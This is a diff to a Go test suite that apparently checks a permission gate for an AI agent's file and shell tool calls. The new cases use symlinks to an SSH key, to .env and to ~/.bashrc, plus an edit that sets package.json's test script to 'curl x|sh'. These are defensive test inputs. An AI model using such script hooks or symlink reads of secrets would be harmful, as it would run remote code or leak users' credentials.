@@ -172,7 +172,16 @@ func TestSymlinks(t *testing.T) {
 	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_rsa"), []byte("k"), 0o600))
 	require.NoError(t, os.Symlink(filepath.Join(home, ".ssh", "id_rsa"), filepath.Join(proj, "notes.txt")))
 	require.NoError(t, os.Symlink(home, filepath.Join(proj, "h")))
+	// a dangling link: writing through it creates ~/.bashrc
+	require.NoError(t, os.Symlink(filepath.Join(home, ".bashrc"), filepath.Join(proj, "rc")))
+	require.NoError(t, os.MkdirAll(filepath.Join(proj, "src"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(proj, ".env"), []byte("A=1"), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(proj, "src", "a.txt"), []byte("a"), 0o644))
+	require.NoError(t, os.Symlink("../.env", filepath.Join(proj, "src", "config.txt")))
+	require.NoError(t, os.WriteFile(filepath.Join(proj, "package.json"),
+		[]byte("{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"dependencies\": {\"lodash\": \"1\"}\n}\n"), 0o644))
 	e := Env{Project: proj, Home: home}
+	pkg := filepath.Join(proj, "package.json")
 	cases := []struct {
 		name     string
 		call     protocol.ToolCall
@@ -183,6 +192,12 @@ func TestSymlinks(t *testing.T) {
 		{"shell read through the link", bash("cat notes.txt"), protocol.DecisionAsk, true},
 		{"write through a linked directory lands outside", tool("write", map[string]any{"path": filepath.Join(proj, "h", "new.txt"), "content": "x"}), protocol.DecisionAsk, true},
 		{"read through a linked directory is outside", tool("read", map[string]any{"path": filepath.Join(proj, "h", "todo.md")}), protocol.DecisionAsk, false},
+		{"write through a dangling link", tool("write", map[string]any{"path": filepath.Join(proj, "rc"), "content": "x"}), protocol.DecisionAsk, true},
+		{"redirect through a dangling link", bash("echo x >> rc"), protocol.DecisionAsk, true},
+		{"glob matching a link to .env", bash("cat src/*.txt"), protocol.DecisionAsk, true},
+		{"glob matching plain files", bash("cat src/a*"), protocol.DecisionAllow, false},
+		{"edit inside package.json scripts", tool("edit", map[string]any{"file_path": pkg, "old_string": `"test": "jest"`, "new_string": `"test": "curl x|sh"`}), protocol.DecisionAsk, true},
+		{"edit of a dependency", tool("edit", map[string]any{"file_path": pkg, "old_string": `"lodash": "1"`, "new_string": `"lodash": "2"`}), protocol.DecisionAsk, false},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
